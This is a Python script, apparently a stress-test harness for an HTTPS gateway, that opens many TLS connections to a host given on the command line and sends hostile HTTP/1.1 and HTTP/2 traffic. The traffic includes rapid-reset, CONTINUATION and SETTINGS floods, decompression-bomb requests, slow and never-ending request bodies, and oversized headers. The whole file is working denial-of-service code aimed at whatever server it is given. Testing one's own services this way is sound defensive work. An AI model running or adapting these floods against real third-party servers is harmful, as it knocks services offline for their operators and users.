"""Makes hostile requests over many connections at once, and keeps the connections open until all were made."""
import os, resource, selectors, socket, ssl, sys, threading, time

from hpack import integer

kind, host, port, connections, requests = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5])
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
token = os.environ["TOKEN"]
http2 = kind.startswith("h2")
each = max(1, requests // connections)


def block(*headers):
    made = b""
    for name, value in headers:
        made += b"\0" + integer(len(name), 7) + name.encode() + integer(len(value), 7) + value.encode()
    return made


def frame(type_, flags, stream, content=b""):
    return len(content).to_bytes(3, "big") + bytes([type_, flags]) + stream.to_bytes(4, "big") + content


def head(path="/", method="GET"):
    authority = f"{host}:{port}"
    return block((":method", method), (":scheme", "https"), (":authority", authority), (":path", path), ("x-key", token))


def parts(number):
    """What one connection sends: bytes, one after the other."""
    if http2:
        yield b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
    line = f"Host: {host}:{port}\r\nX-Key: {token}\r\n"
    for n in range(each):
        stream = 2 * n + 1
        if kind == "h2-reset":
            yield frame(1, 5, stream, head()) + frame(3, 0, stream, b"\0\0\0\x08")
        elif kind == "h2-continuation":
            yield (frame(1, 1, stream, head()) if n == 0 else b"") + frame(9, 0, 1, block(("x-a", "b" * 1000))) * 10
        elif kind == "h2-settings":
            yield frame(4, 0, 0, b"\0\x03\0\0\0\x64") * 10
        elif kind == "h2-bodies":
            yield frame(1, 4, stream, head(method="POST")) + frame(0, 0, stream, b"x" * 16000)
        elif kind == "h2-unread":
            yield frame(1, 5, stream, head("/large"))
        elif kind == "h2-bombs":
            yield frame(1, 5, stream, head("/bomb-br"))
        elif kind == "slow":
            yield f"POST /echo HTTP/1.1\r\n{line}Content-Length: 1000\r\n\r\n".encode() if n == 0 else b"x"
        elif kind == "signed":
            # A body whose hash the gate needs, which never ends.
            signed = "Authorization: AWS4-HMAC-SHA256 Credential=AKIA/20260101/us/s3/aws4_request, SignedHeaders=host, Signature=00\r\n"
            yield f"POST /echo HTTP/1.1\r\n{line}{signed}Content-Length: 1048000\r\n\r\n".encode() if n == 0 else b"x" * 130_000
        elif kind.startswith("bomb"):
            yield f"GET /{kind} HTTP/1.1\r\n{line}\r\n".encode() if n == 0 else b""
        elif kind == "heads":
            yield f"GET / HTTP/1.1\r\n{line}X: ".encode() + b"x" * 100_000 if n == 0 else b"x" * 1000
        else:
            yield f"GET /echo HTTP/1.1\r\n{line}\r\n".encode()


context = ssl.create_default_context()
context.set_alpn_protocols(["h2" if http2 else "http/1.1"])
open_, lock, made, failed = [], threading.Lock(), [0], [0]


def connection(number):
    plain = socket.create_connection((host, port), timeout=60)
    stream = context.wrap_socket(plain, server_hostname=host)
    stream.settimeout(0.3)
    open_.append(stream)
    for part in parts(number):
        made[0] += 1
        try:
            stream.sendall(part)
        except OSError:
            break
        if kind in ("echo", "h2-reset", "h2-settings", "h2-continuation"):
            try:
                stream.settimeout(0.001 if http2 else 2)
                stream.recv(65536)
                stream.settimeout(0.3)
            except OSError:
                stream.settimeout(0.3)


numbers = list(range(connections))


def work():
    while True:
        with lock:
            if not numbers:
                return
            number = numbers.pop()
        try:
            connection(number)
        except OSError:
            failed[0] += 1


threads = [threading.Thread(target=work) for _ in range(32)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
time.sleep(float(os.environ.get("STAY", "2")))
print("made", made[0], "open", len(open_), "failed", failed[0], flush=True)
